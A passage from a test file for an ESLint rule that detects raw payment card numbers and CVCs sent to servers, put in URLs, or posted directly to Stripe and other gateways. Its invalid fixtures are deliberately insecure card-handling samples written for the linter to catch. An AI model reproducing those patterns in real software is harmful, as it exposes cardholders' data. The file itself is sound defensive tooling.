  await invoke('save_card', { cardNumber: card.cardNumber, cvv: card.cvv });
  await getFunctions().functions.invoke('save-card', { body: { cardNumber: card.cardNumber, cvv: card.cvv } });
}
`,
      filename: 'src/renderer/cards.ts',
    },
    // An app module's export is read as an HTTP client only where its name or its module's says one, and only for a
    // call whose URL is written as a path or an absolute URL.
    {
      code: `import api from '@/lib/api';
import storage from '@/lib/storage';

export async function save(card: { cardNumber: string; cvv: string }) {
  await storage.put('/cards', card);
  await api.post('cards.create', card);
}
`,
      filename: 'src/cards/save.ts',
    },
    // A gift card's number and PIN, sent by code named for it (real-world batch 99)
    {
      code: `import axios from 'axios';

export const giftCardApi = {
  redeem: (cardNumber: string, pin: string) => axios.post('/api/redeem', { cardNumber, pin }),
  balance: (cardNumber: string) => axios.post('/api/balance', { cardNumber }),
};
`,
      filename: 'src/api/gift.ts',
    },
    // Test code is told by its directory and its imports too (real-world batch 96): Cucumber step definitions posting
    // fixture cards to the app under test, and NestJS' default end-to-end spec.
    {
      code: `import { Given, Then } from '@cucumber/cucumber';
import axios from 'axios';
import { expect } from 'chai';

Given('a customer with a saved card', async function () {
  this.response = await axios.post('http://localhost:3000/cards/new', { name: 'John', code: '5197952644616116', expiration: '2030/01', cvc: '123' });
});

Then('the card is listed', function () {
  expect(this.response.status).to.equal(201);
});
`,
      filename: 'server/features/support/cards.steps.mjs',
      languageOptions: { parser: espree },
    },
    {
      code: `import { Test } from '@nestjs/testing';
import * as request from 'supertest';
import { AppModule } from '../src/app.module';

describe('CardsController (e2e)', () => {
  it('/cards (POST)', async () => {
    const moduleFixture = await Test.createTestingModule({ imports: [AppModule] }).compile();
    const app = moduleFixture.createNestApplication();
    await app.init();
    await fetch('http://localhost:3000/cards', { method: 'POST', body: JSON.stringify({ cardNumber: '5197952644616116', cvv: '123', expiry: '12/30' }) });
  });
});
`,
      filename: 'test/cards.e2e-spec.ts',
    },
    // A card number alone in a query string is how transit, loyalty, patient and game cards are looked up (real-world
    // precision probe): a payment card's number goes with its CVC or expiry date. A BIN or a last4 is no card number,
    // a value written in the URL is no card the user typed, and a '?' in the fragment starts no query.
    `
import axios from 'axios';

export const smartRiderBalance = (cardNumber: string) => axios.get(\`/api/v1/smartrider?card_number=\${cardNumber}\`);
export const binDetails = (cardNumber: string) => fetch(\`/checkout/v1/card/details?card_number=\${cardNumber.replace(/\\s/g, '').slice(0, 6)}\`);
export const verifyLast4 = (card: { number: string; exp: string }) =>
  axios.get('/api/cards/verify', { params: { cardNumber: card.number.slice(-4), expiry: card.exp } });
export const deck = () => fetch('/api/deck?cardNumber=3&cvc=1');
export const hashRoute = (base: string, cvc: string) => fetch(\`\${base}#/pay?cvc=\${cvc}\`);
`,
    // A URL object given the card's safe parts (and a number alone: a transit card's lookup); limitation: a URL object
    // whose parameters are set through a const holding its \`searchParams\` is not followed.
    `
export async function cardStatus(card: { last4: string; brand: string }, transitCard: string) {
  const url = new URL('/api/cards/status', window.location.origin);
  url.searchParams.append('last4', card.last4);
  url.searchParams.set('brand', card.brand);
  const lookup = new URL('/api/transit/balance', window.location.origin);
  lookup.searchParams.set('card_number', transitCard);
  return Promise.all([fetch(url), fetch(lookup.href)]);
}
export async function validate(cardNumber: string, cvc: string) {
  const url = new URL('/api/validate', window.location.origin);
  const params = url.searchParams;
  params.set('cardNumber', cardNumber);
  params.set('cvc', cvc);
  return fetch(url);
}
`,
  ],
  invalid: [
    {
      // The forwarding server of real-world batch 82: the processor's URL comes from the environment.
      code: `const axios = require('axios');
const { PROCESSOR_URI } = process.env;

module.exports = async (req, res) => {
  const { amount, cardNumber, expiry, cvv } = req.body;
  const response = await axios.post(
    \`\${PROCESSOR_URI}Sum=\${amount}&cardnumber=\${cardNumber}&expiry=\${expiry}&cvv=\${cvv}\`
  );
  res.json(response.data);
};
`,
      languageOptions: { parser: espree, parserOptions: { ecmaVersion: 'latest', sourceType: 'commonjs' } },
      errors: [
        {
          messageId: 'rawCardToOwnServer',
          data: { client: 'axios', endpoint: 'POST a URL computed at run time', field: 'cardnumber, cvv', what: 'card number (PAN) and card security code (CVC)' },
          line: 7,
          column: 5,
          endLine: 7,
          endColumn: 89,
        },
      ],
    },
    {
      // A page validating the card against its own API before paying, in the query.
      code: `export async function validateCard(card: { number: string; cvc: string }) {
  const response = await fetch(\`/api/cards/validate?number=\${card.number}&cvc=\${card.cvc}\`);
  return response.ok;
}
`,
      errors: [
        {
          messageId: 'rawCardToOwnServer',
          data: { client: 'fetch', endpoint: 'GET /api/cards/validate', field: 'number, cvc', what: 'card number (PAN) and card security code (CVC)' },
          line: 2,
          column: 32,
          endLine: 2,
          endColumn: 91,
        },
      ],
    },
    {
      // Query-parameter options: axios' `params`, got's `searchParams`, superagent's `.query()`.
      code: `import axios from 'axios';
import got from 'got';
import superagent from 'superagent';

export async function lookUp(cardNumber: string, expiry: string, cvv: string) {
  await axios.get('/api/cards/verify', { params: { cardNumber, expiry } });
  await got('https://risk.example.com/score', { searchParams: { cvv } });
  await superagent.get('/api/verify').query({ cardNumber, cvv });
}
`,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'axios', endpoint: 'GET /api/cards/verify', field: 'cardNumber', what: 'card number (PAN)' }, line: 6, column: 52, endLine: 6, endColumn: 62 },
        { messageId: 'rawCardToOwnServer', data: { client: 'got', endpoint: 'GET risk.example.com/score', field: 'cvv', what: 'card security code (CVC)' }, line: 7, column: 65, endLine: 7, endColumn: 68 },
        { messageId: 'rawCardToOwnServer', data: { client: 'superagent', endpoint: 'GET /api/verify', field: 'cardNumber', what: 'card number (PAN)' }, line: 8, column: 47, endLine: 8, endColumn: 57 },
        { messageId: 'rawCardToOwnServer', data: { client: 'superagent', endpoint: 'GET /api/verify', field: 'cvv', what: 'card security code (CVC)' }, line: 8, column: 59, endLine: 8, endColumn: 62 },
      ],
    },
    {
      // Angular's HttpClient with `params`.
      code: `import { HttpClient } from '@angular/common/http';
import { Injectable } from '@angular/core';

@Injectable({ providedIn: 'root' })
export class CardCheckService {
  constructor(private http: HttpClient) {}

  check(cardNumber: string, cvc: string) {
    return this.http.get('/api/cards/check', { params: { cardNumber, cvc } });
  }
}
`,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'HttpClient', endpoint: 'GET /api/cards/check', field: 'cardNumber', what: 'card number (PAN)' }, line: 9, column: 58, endLine: 9, endColumn: 68 },
        { messageId: 'rawCardToOwnServer', data: { client: 'HttpClient', endpoint: 'GET /api/cards/check', field: 'cvc', what: 'card security code (CVC)' }, line: 9, column: 70, endLine: 9, endColumn: 73 },
      ],
    },
    {
      // Card fields in the query of a Stripe API request: sent to Stripe from the app's own code.
      code: `export async function tokenize(number: string, cvc: string) {
  const response = await fetch('https://api.stripe.com/v1/tokens?card[number]=' + number + '&card[cvc]=' + cvc, {
    method: 'POST',
    headers: { Authorization: \`Bearer \${process.env.STRIPE_SECRET_KEY}\` },
  });
  return (await response.json()).id;
}
`,
      errors: [
        {
          messageId: 'rawCardOverHttp',
          data: { client: 'fetch', endpoint: 'POST /v1/tokens', field: 'card[number], card[cvc]', what: 'card number (PAN) and card security code (CVC)' },
          line: 2,
          column: 32,
          endLine: 2,
          endColumn: 111,
        },
      ],
    },
  ],
});

// Redux Toolkit Query mutations: the request an endpoint's query function returns (real-world batch 82).
ruleTester.run('no-raw-card-data: Redux Toolkit Query', rule, {
  valid: [
    // The card stays in Stripe's iframe; the mutation posts the PaymentMethod id.
    `
import { createApi, fetchBaseQuery } from '@reduxjs/toolkit/query/react';

export const paymentApi = createApi({
  reducerPath: 'payment',
  baseQuery: fetchBaseQuery({ baseUrl: '/api/' }),
  endpoints: (builder) => ({
    pay: builder.mutation<{ ok: boolean }, { amount: number; paymentMethodId: string }>({
      query: ({ amount, paymentMethodId }) => ({ url: 'payments', method: 'POST', body: { amount, paymentMethodId } }),
    }),
  }),
});
`,
    // limitation: a query endpoint (a GET; its builder method shares its name with every database client's) is not read.
    `
import { createApi, fetchBaseQuery } from '@reduxjs/toolkit/query/react';

export const cardApi = createApi({
  baseQuery: fetchBaseQuery({ baseUrl: '/api/' }),
  endpoints: (builder) => ({
    validate: builder.query({ query: ({ cardNumber, cvv }) => ({ url: 'cards/validate', params: { cardNumber, cvv } }) }),
  }),
});
`,
  ],
  invalid: [
    {
      // mag-d-alen/Simless's payment API: the page posts the card it collected to its own server.
      code: `import { createApi, fetchBaseQuery } from '@reduxjs/toolkit/query/react';

export const paymentApi = createApi({
  reducerPath: 'payment',
  baseQuery: fetchBaseQuery({ baseUrl: '/api/' }),
  endpoints: (builder) => ({
    pay: builder.mutation<{ ok: boolean }, { amount: number; cardNumber: string; cvv: string }>({
      query: ({ amount, cardNumber, cvv }) => ({ url: 'cardPayment', method: 'POST', body: { amount, cardNumber, cvv } }),
    }),
  }),
});
`,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'RTK Query', endpoint: 'POST /api/cardPayment', field: 'cardNumber', what: 'card number (PAN)' }, line: 8, column: 102, endLine: 8, endColumn: 112 },
        { messageId: 'rawCardToOwnServer', data: { client: 'RTK Query', endpoint: 'POST /api/cardPayment', field: 'cvv', what: 'card security code (CVC)' }, line: 8, column: 114, endLine: 8, endColumn: 117 },
      ],
    },
    {
      // An endpoint injected into an API made in another module: its base URL is unknown.
      code: `import { api } from './api';

export const cardsApi = api.injectEndpoints({
  endpoints: (build) => ({
    addCard: build.mutation({
      query(card) {
        return { url: '/cards', method: 'POST', body: { card: { number: card.number, cvc: card.cvc, exp: card.exp } } };
      },
    }),
  }),
});
`,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'RTK Query', endpoint: 'POST …/cards', field: 'card.number', what: 'card number (PAN)' }, line: 7, column: 65, endLine: 7, endColumn: 71 },
        { messageId: 'rawCardToOwnServer', data: { client: 'RTK Query', endpoint: 'POST …/cards', field: 'card.cvc', what: 'card security code (CVC)' }, line: 7, column: 86, endLine: 7, endColumn: 89 },
      ],
    },
  ],
});

ruleTester.run('no-raw-card-data: navigations', rule, {
  valid: [
    // A receipt's safe parts in the URL, the card kept in the history state (never sent), a card number alone in a
    // URL (a transit card's balance), and a list's `push`.
    {
      code: `
import { useRouter } from 'next/router';
import { useNavigate } from 'react-router-dom';

export function Receipt({ card, orderId }: { card: { last4: string; brand: string; number: string }; orderId: string }) {
  const router = useRouter();
  const navigate = useNavigate();
  const lines: { cardNumber: string; cvv: string }[] = [];
  const done = () => {
    router.push({ pathname: '/receipt', query: { orderId, last4: card.last4, brand: card.brand } });
    navigate('/payment/confirm', { state: { cardNumber: card.number } });
    window.location.href = \`/transit/balance?card_number=\${card.number}\`;
    lines.push({ cardNumber: card.number, cvv: '' });
  };
  return <button onClick={done}>Done</button>;
}
`,
      filename: 'src/Receipt.tsx',
    },
    // Other kinds of card (real-world batch FK): a request helper's caller whose path or name says a gift card, a
    // value read off a gift or transit card under a generic key, an identity card's print page and resource.
    {
      code: `import axios from 'axios';

const BASE = import.meta.env.VITE_API;
export function request(url: string, options: RequestInit = {}) {
  return fetch(BASE + url, { headers: { 'Content-Type': 'application/json' }, ...options });
}
export const redeemGiftCard = (cardNumber: string, pin: string) =>
  request('/gift-cards/redeem', { method: 'POST', body: JSON.stringify({ cardNumber, pin }) });
export const giftCardBalance = (cardNumber: string, pin: string) =>
  request('/balance', { method: 'POST', body: JSON.stringify({ cardNumber, pin }) });

export const balance = (giftCard: { number: string; pin: string }) => axios.post('/api/balance', { cardNumber: giftCard.number, pin: giftCard.pin });
export const topUp = (transit: { cardNumber: string; m: number; y: number }) =>
  axios.post('/api/topup', { cardNumber: transit.cardNumber, expiryMonth: transit.m, expiryYear: transit.y, amount: 10 });

export function printIdCard(emp: { cardNumber: string; validUntil: string }) {
  window.open(\`/print/id-card?cardNumber=\${emp.cardNumber}&expiryDate=\${emp.validUntil}\`);
  return fetch('/api/id-cards', { method: 'POST', body: JSON.stringify({ cardNumber: emp.cardNumber, expiryDate: emp.validUntil }) });
}
`,
      filename: 'src/lib/api.ts',
    },
    // limitation: a server's own redirect (Express's \`res.redirect\`) is not read as a navigation.
    `
import express from 'express';

const app = express();
app.post('/pay', (req, res) => {
  const { cardNumber, cvv } = req.body;
  res.redirect(\`/pay/confirm?cardNumber=\${cardNumber}&cvv=\${cvv}\`);
});
`,
    // limitation: a router the app's own hook returns is not known to navigate.
    `
import { useAppRouter } from '@/hooks/router';

export function usePayStep() {
  const router = useAppRouter();
  return (cardNumber: string, cvv: string) => router.push(\`/pay/confirm?cardNumber=\${cardNumber}&cvv=\${cvv}\`);
}
`,
  ],
  invalid: [
    {
      // A hand-rolled card form hands the card to the next page in its URL (a real-world page posting to PHP).
      code: `document.getElementById('form-pago').addEventListener('submit', function (e) {
  e.preventDefault();
  const tarjeta = document.getElementById('tarjeta').value;
  const fecha = document.getElementById('fecha').value;
  const cvv = document.getElementById('cvv').value;
  window.location.href = \`procesar_pago.php?tarjeta=\${tarjeta}&fecha_caducidad=\${fecha}&cvv=\${cvv}\`;
});
`,
      filename: 'js/pago.js',
      languageOptions: { parser: espree },
      errors: [
        { messageId: 'rawCardInUrl', data: { client: 'window.location.href', endpoint: 'procesar_pago.php', field: 'cvv', what: 'card security code (CVC)' }, line: 6, column: 26, endLine: 6, endColumn: 100 },
      ],
    },
    {
      // Next.js' pages router: the card form's state goes to the confirmation page as its query.
      code: `import { useRouter } from 'next/router';
import { useState } from 'react';
import { CardForm } from '../../components/CardForm';

export default function Payment() {
  const router = useRouter();
  const [cardNumber, setCardNumber] = useState('');
  const [expiry, setExpiry] = useState('');
  const [cvv, setCvv] = useState('');

  const handleSubmit = (e: React.FormEvent) => {
    e.preventDefault();
    router.push({ pathname: '/checkout/confirm', query: { cardNumber, expiry, cvv } });
  };

  return <CardForm onSubmit={handleSubmit} onNumber={setCardNumber} onExpiry={setExpiry} onCvv={setCvv} />;
}
`,
      filename: 'pages/checkout/payment.tsx',
      errors: [
        { messageId: 'rawCardInUrl', data: { client: 'router.push', endpoint: '/checkout/confirm', field: 'cardNumber', what: 'card number (PAN)' }, line: 13, column: 59, endLine: 13, endColumn: 69 },
        { messageId: 'rawCardInUrl', data: { client: 'router.push', endpoint: '/checkout/confirm', field: 'cvv', what: 'card security code (CVC)' }, line: 13, column: 79, endLine: 13, endColumn: 82 },
      ],
    },
    {
      // React Router: the card encoded with URLSearchParams into the next route's URL.
      code: `import { useNavigate } from 'react-router-dom';

type CardForm = { cardNumber: string; cvv: string; name: string };

export function useConfirmCard() {
  const navigate = useNavigate();
  return (form: CardForm) => {
    const params = new URLSearchParams({ cardNumber: form.cardNumber, cvv: form.cvv, name: form.name });
    navigate(\`/payment/confirm?\${params}\`);
  };
}
`,
      filename: 'src/payment/useConfirmCard.ts',
      errors: [
        { messageId: 'rawCardInUrl', data: { client: 'navigate', endpoint: '/payment/confirm', field: 'cardNumber', what: 'card number (PAN)' }, line: 8, column: 42, endLine: 8, endColumn: 52 },
        { messageId: 'rawCardInUrl', data: { client: 'navigate', endpoint: '/payment/confirm', field: 'cvv', what: 'card security code (CVC)' }, line: 8, column: 71, endLine: 8, endColumn: 74 },
      ],
    },
    {
      // Angular: the reactive form's card fields as the review step's query parameters.
      code: `import { Component, inject } from '@angular/core';
import { FormBuilder } from '@angular/forms';
import { Router } from '@angular/router';

@Component({ selector: 'app-payment', templateUrl: './payment.component.html' })
export class PaymentComponent {
  private readonly router = inject(Router);
  private readonly fb = inject(FormBuilder);
  form = this.fb.group({ cardNumber: [''], expiryDate: [''], securityCode: [''] });

  next(): void {
    const { cardNumber, expiryDate, securityCode } = this.form.getRawValue();
    this.router.navigate(['/checkout', 'review'], { queryParams: { cardNumber, expiryDate, securityCode } });
  }
}
`,
      filename: 'src/app/payment/payment.component.ts',
      errors: [
        { messageId: 'rawCardInUrl', data: { client: 'this.router.navigate', endpoint: '/checkout/review', field: 'cardNumber', what: 'card number (PAN)' }, line: 13, column: 68, endLine: 13, endColumn: 78 },
        { messageId: 'rawCardInUrl', data: { client: 'this.router.navigate', endpoint: '/checkout/review', field: 'securityCode', what: 'card security code (CVC)' }, line: 13, column: 92, endLine: 13, endColumn: 104 },
      ],
    },
    {
      // A Remix action redirects to a verification page with the posted card in the URL.
      code: `import { redirect, type ActionFunctionArgs } from '@remix-run/node';

export async function action({ request }: ActionFunctionArgs) {
  const form = await request.formData();
  const cardNumber = String(form.get('cardNumber'));
  const cvc = String(form.get('cvc'));
  if (cardNumber.replace(/\\D/g, '').length < 13) return { error: 'Invalid card number' };
  return redirect(\`/checkout/verify?cardNumber=\${cardNumber}&cvc=\${cvc}\`);
}
`,
      filename: 'app/routes/checkout.card.tsx',
      errors: [
        { messageId: 'rawCardInUrl', data: { client: 'redirect', endpoint: '/checkout/verify', field: 'cardNumber, cvc', what: 'card number (PAN) and card security code (CVC)' }, line: 8, column: 19, endLine: 8, endColumn: 73 },
      ],
    },
    {
      // A Stripe client handed to a helper under a neutral parameter name: every call of the file passes the client.
      code: `import Stripe from 'stripe';

const stripe = new Stripe(process.env.STRIPE_SECRET_KEY!, { apiVersion: '2025-02-24.acacia' });

async function attachCard(client: Stripe | any, customerId: string, card: { number: string; expMonth: number; expYear: number; cvc: string }) {
  const paymentMethod = await client.paymentMethods.create({
    type: 'card',
    card: { number: card.number, exp_month: card.expMonth, exp_year: card.expYear, cvc: card.cvc },
  });
  return client.paymentMethods.attach(paymentMethod.id, { customer: customerId });
}

export async function addCard(customerId: string, body: { number: string; expMonth: number; expYear: number; cvc: string }) {
  return attachCard(stripe, customerId, body);
}
`,
      filename: 'src/services/cards.ts',
      errors: [
        { messageId: 'rawCardToStripeApi', data: { call: 'stripe.paymentMethods.create', field: 'card.number', what: 'card number (PAN)' }, line: 8, column: 13, endLine: 8, endColumn: 19 },
        { messageId: 'rawCardToStripeApi', data: { call: 'stripe.paymentMethods.create', field: 'card.cvc', what: 'card security code (CVC)' }, line: 8, column: 84, endLine: 8, endColumn: 87 },
      ],
    },
    {
      // A marketplace's API client (real-world batch FG): its request helper hands fetch the options its callers pass.
      code: `const API_URL = process.env.NEXT_PUBLIC_API_URL ?? '';

async function request<T>(endpoint: string, options: RequestInit = {}): Promise<T> {
  const res = await fetch(\`\${API_URL}\${endpoint}\`, {
    headers: { 'Content-Type': 'application/json', Authorization: \`Bearer \${localStorage.getItem('token')}\` },
    ...options,
  });
  if (!res.ok) throw new Error(await res.text());
  return res.json() as Promise<T>;
}

export const paymentsApi = {
  createPaymentMethod: (card: { number: string; expMonth: number; expYear: number; cvc: string }) =>
    request<{ id: string }>('/payments/create-payment-method', {
      method: 'POST',
      body: JSON.stringify({ type: 'card', card: { number: card.number, exp_month: card.expMonth, exp_year: card.expYear, cvc: card.cvc } }),
    }),
  listPayouts: () => request<{ data: unknown[] }>('/payouts'),
};
`,
      filename: 'src/lib/api.ts',
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'a URL computed at run time', field: 'card.number', what: 'card number (PAN)' }, line: 16, column: 52, endLine: 16, endColumn: 58 },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'a URL computed at run time', field: 'card.cvc', what: 'card security code (CVC)' }, line: 16, column: 123, endLine: 16, endColumn: 126 },
      ],
    },
    {
      // ...and so are the parameters set on a URL object afterwards (frequency study 292: a card form's GET request with
      // the card number and CVC appended to its URL), also sent as its \`href\` or \`toString()\`
      code: `export function pay(holderName: string, cardNumber: string, cvv: string, cardType: string) {
  const url = new URL('/process_payment', window.location.origin);
  url.searchParams.append('holder_name', holderName);
  url.searchParams.append('card_number', cardNumber);
  url.searchParams.append('cvv', cvv);
  url.searchParams.append('card_type', cardType);
  return fetch(url, { method: 'GET' });
}
export function check(card: { number: string; exp: string }) {
  const url = new URL('https://gateway.example.com/check');
  url.searchParams.set('CardNo', card.number);
  url.searchParams.set('ExpireDate', card.exp);
  return fetch(url.toString());
}
`,
      filename: 'src/pay.ts',
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'GET …/process_payment', field: 'card_number', what: 'card number (PAN)' }, line: 4, column: 27, endLine: 4, endColumn: 40 },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'GET …/process_payment', field: 'cvv', what: 'card security code (CVC)' }, line: 5, column: 27, endLine: 5, endColumn: 32 },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'GET gateway.example.com/check', field: 'CardNo', what: 'card number (PAN)' }, line: 11, column: 24, endLine: 11, endColumn: 32 },
      ],
    },
    {
      // A request's URL that appends an encoded form is read as its query string too.
      code: `export async function validateCard(card: { cardNumber: string; cvc: string; expiry: string }) {
  const response = await fetch('/api/cards/validate?' + new URLSearchParams({ cardNumber: card.cardNumber, cvc: card.cvc, expiry: card.expiry }));
  return response.json();
}
`,
      filename: 'src/api/cards.ts',
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'GET /api/cards/validate', field: 'cardNumber', what: 'card number (PAN)' }, line: 2, column: 79, endLine: 2, endColumn: 89 },
        { messageId: 'rawCardToOwnServer', data: { client: 'fetch', endpoint: 'GET /api/cards/validate', field: 'cvc', what: 'card security code (CVC)' }, line: 2, column: 108, endLine: 2, endColumn: 111 },
      ],
    },
  ],
});

ruleTester.run('no-raw-card-data: platform clients and class helpers', rule, {
  valid: [
    // A class of the app's own with a `helpers` member is not an n8n node: the file imports no n8n package.
    {
      code: `
export class Checkout {
  helpers = { httpRequest: (options: { url: string; body: unknown }) => fetch(options.url, { method: 'POST', body: JSON.stringify(options.body) }) };

  summary(cardNumber: string) {
    return this.helpers.httpRequest({ url: '/api/summary', body: { last4: cardNumber.slice(-4) } });
  }
}
`,
      filename: 'src/checkout.ts',
    },
    // \`this\` in a plain function inside a method is not the class's instance: its \`request\` is not the method's.
    `
export class PaymentsApi {
  request(path, options) {
    return fetch('/api' + path, options);
  }

  later(cardNumber, cvc) {
    return function () {
      return this.request('/pay', { method: 'POST', body: JSON.stringify({ cardNumber, cvc }) });
    };
  }
}
`,
    // tokens.create's \`card\` beside a \`customer\` is that customer's saved card (Connect's cloning), and a value named
    // as an id is a card's id; its other token kinds carry no card.
    `
const stripe = require('stripe')(process.env.STRIPE_SECRET_KEY);

exports.cloneCard = (customerId, cardId, account) => stripe.tokens.create({ customer: customerId, card: cardId }, { stripeAccount: account });
exports.fromSaved = (saved) => stripe.tokens.create({ card: saved.id });
exports.bankToken = (bankAccount) => stripe.tokens.create({ bank_account: bankAccount });
exports.piiToken = (idNumber) => stripe.tokens.create({ pii: { id_number: idNumber } });
`,
    // limitation: a class method's callers outside the class (\`api.request(…)\` on an instance) are not seen.
    {
      code: `
class Api {
  async request(path: string, options: RequestInit = {}) {
    const res = await fetch('/api' + path, { headers: { 'Content-Type': 'application/json' }, ...options });
    return res.json();
  }
}
export const api = new Api();
export const pay = (cardNumber: string, cvc: string) => api.request('/pay', { method: 'POST', body: JSON.stringify({ cardNumber, cvc }) });
`,
      filename: 'src/api.ts',
    },
    // limitation: an n8n node written as CommonJS (\`require('n8n-workflow')\`) is not known to be one.
    `
const { NodeOperationError } = require('n8n-workflow');

async function createToken(i) {
  if (!this.getNodeParameter('number', i)) throw new NodeOperationError(this.getNode(), 'number');
  const card = { number: this.getNodeParameter('number', i), cvc: this.getNodeParameter('cvc', i) };
  return this.helpers.request({ method: 'POST', uri: 'https://api.stripe.com/v1/tokens', form: { card }, json: true });
}
module.exports = { createToken };
`,
  ],
  invalid: [
    {
      // An n8n node's Stripe step (real-world batch FO): n8n's request helpers, called with the node's context.
      code: `
import type { IExecuteFunctions, IHttpRequestMethods } from 'n8n-workflow';

export async function createToken(this: IExecuteFunctions, i: number) {
  const card = {
    number: this.getNodeParameter('number', i) as string,
    exp_month: this.getNodeParameter('expMonth', i) as number,
    cvc: this.getNodeParameter('cvc', i) as string,
  };
  return this.helpers.requestWithAuthentication.call(this, 'stripeApi', {
    method: 'POST',
    uri: 'https://api.stripe.com/v1/tokens',
    form: { card },
    json: true,
  });
}

export async function moovCard(this: IExecuteFunctions, accountId: string, cardNumber: string, cardCvv: string) {
  return this.helpers.httpRequestWithAuthentication.call(this, 'moovApi', {
    method: 'POST' as IHttpRequestMethods,
    baseURL: 'https://api.moov.io',
    url: \`/accounts/\${accountId}/cards\`,
    body: { cardNumber, cardCvv, expiration: { month: '01', year: '28' } },
  });
}

export async function list(this: IExecuteFunctions) {
  return this.helpers.httpRequest({ method: 'GET', url: 'https://api.stripe.com/v1/customers' });
}
`,
      filename: 'nodes/Payments/GenericFunctions.ts',
      errors: [
        { messageId: 'rawCardOverHttp', data: { client: 'n8n', endpoint: 'POST /v1/tokens', what: 'card number (PAN)', field: 'card[number]' }, line: 6, column: 5, endLine: 6, endColumn: 11 },
        { messageId: 'rawCardOverHttp', data: { client: 'n8n', endpoint: 'POST /v1/tokens', what: 'card security code (CVC)', field: 'card[cvc]' }, line: 8, column: 5, endLine: 8, endColumn: 8 },
        { messageId: 'rawCardToOwnServer', data: { client: 'n8n', endpoint: 'POST api.moov.io/accounts/…/cards', what: 'card number (PAN)', field: 'cardNumber' }, line: 23, column: 13, endLine: 23, endColumn: 23 },
        { messageId: 'rawCardToOwnServer', data: { client: 'n8n', endpoint: 'POST api.moov.io/accounts/…/cards', what: 'card security code (CVC)', field: 'cardCvv' }, line: 23, column: 25, endLine: 23, endColumn: 32 },
      ],
    },
    {
      // A Wix Velo module (real-world batch FO): wix-fetch's \`fetch\` is the browser's.
      code: `
import { fetch } from 'wix-fetch';

export async function createCardToken(number, expMonth, expYear, cvc, publishableKey) {
  const body = 'card[number]=' + number + '&card[exp_month]=' + expMonth + '&card[exp_year]=' + expYear + '&card[cvc]=' + cvc;
  const res = await fetch('https://api.stripe.com/v1/tokens', {
    method: 'post',
    headers: { 'Content-Type': 'application/x-www-form-urlencoded', Authorization: 'Bearer ' + publishableKey },
    body,
  });
  return res.json();
}
`,
      filename: 'backend/stripeProxy.js',
      errors: [
        { messageId: 'rawCardOverHttp', data: { client: 'fetch', endpoint: 'POST /v1/tokens', what: 'card number (PAN) and card security code (CVC)', field: 'card[number], card[cvc]' }, line: 5, column: 16, endLine: 5, endColumn: 126 },
      ],
    },
    {
      // The request library's options, named as the message shows it.
      code: `
const request = require('request-promise');

module.exports = function charge(cardNumber, cvc, amount) {
  return request({ method: 'POST', uri: 'https://gateway.example.com/charge', json: true, body: { cardNumber, cvc, amount } });
};
`,
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'request-library', endpoint: 'POST gateway.example.com/charge', what: 'card number (PAN)', field: 'cardNumber' }, line: 5, column: 99, endLine: 5, endColumn: 109 },
        { messageId: 'rawCardToOwnServer', data: { client: 'request-library', endpoint: 'POST gateway.example.com/charge', what: 'card security code (CVC)', field: 'cvc' }, line: 5, column: 111, endLine: 5, endColumn: 114 },
      ],
    },
    {
      // stripe-node's tokens.create takes a raw card as its \`card\` unless a \`customer\` is given (real-world batch FS: a
      // wrapper whose callers live in other files)
      code: `const stripe = require('stripe')(process.env.STRIPE_SECRET_KEY);

// Callers in other files pass { number, exp_month, exp_year, cvc } from the sign-up form.
exports.createStripeToken = (card) => {
  return stripe.tokens.create({ card });
};

exports.createCustomer = async (email, card) => {
  const token = await stripe.tokens.create({ card: card });
  return stripe.customers.create({ email, source: token.id });
};
`,
      filename: 'api/payments.js',
      errors: [
        { messageId: 'rawCardToStripeApi', data: { call: 'stripe.tokens.create', what: 'card details (number, expiry date and CVC)', field: 'card' }, line: 5, column: 33, endLine: 5, endColumn: 37 },
        { messageId: 'rawCardToStripeApi', data: { call: 'stripe.tokens.create', what: 'card details (number, expiry date and CVC)', field: 'card' }, line: 9, column: 52, endLine: 9, endColumn: 56 },
      ],
    },
    {
      // ...also where the file spells the method only with escapes, and names no card field
      code: `const stripe = require('stripe')(process.env.STRIPE_SECRET_KEY);

exports.createStripeToken = (card) => stripe.\\u0074okens.create({ card });
exports.viaKey = (card) => stripe['\\x74okens'].create({ card });
`,
      filename: 'api/tokens.js',
      errors: [
        { messageId: 'rawCardToStripeApi', data: { call: 'stripe.tokens.create', what: 'card details (number, expiry date and CVC)', field: 'card' }, line: 3, column: 67, endLine: 3, endColumn: 71 },
        { messageId: 'rawCardToStripeApi', data: { call: 'stripe.tokens.create', what: 'card details (number, expiry date and CVC)', field: 'card' }, line: 4, column: 57, endLine: 4, endColumn: 61 },
      ],
    },
    {
      // A gateway client written on a constructor's prototype, its methods calling the helper through \`var self = this\`
      // (real-world batch FT: 42-cent's Moneris and Worldpay adapters)
      code: `var rp = require('request-promise');

function Moneris(storeId, apiToken) {
  this.storeId = storeId;
  this.apiToken = apiToken;
}

Moneris.prototype._post = function (type, body) {
  return rp({ uri: 'https://www3.moneris.com/gateway2/servlet/MpgRequest', method: 'POST', json: true, headers: { 'X-Store-Id': this.storeId, 'X-Api-Token': this.apiToken, 'X-Transaction-Type': type }, body: body });
};

Moneris.prototype.purchase = function (order, card) {
  var self = this;
  var body = { order_id: order.id, amount: order.amount, pan: card.number, expdate: card.expYear + card.expMonth, cvd_info: { cvd_value: card.cvv } };
  return self._post('purchase', body);
};

module.exports = Moneris;
`,
      filename: 'lib/moneris.js',
      errors: [
        { messageId: 'rawCardToOwnServer', data: { client: 'request-library', endpoint: 'POST www3.moneris.com/gateway2/servlet/MpgRequest', what: 'card number (PAN)', field: 'pan' }, line: 14, column: 63, endLine: 14, endColumn: 74 },
        { messageId: 'rawCardToOwnServer', data: { client: 'request-library', endpoint: 'POST www3.moneris.com/gateway2/servlet/MpgRequest', what: 'card security code (CVC)', field: 'cvd_info.cvd_value' }, line: 14, column: 127, endLine: 14, endColumn: 136 },
      ],
    },
    {
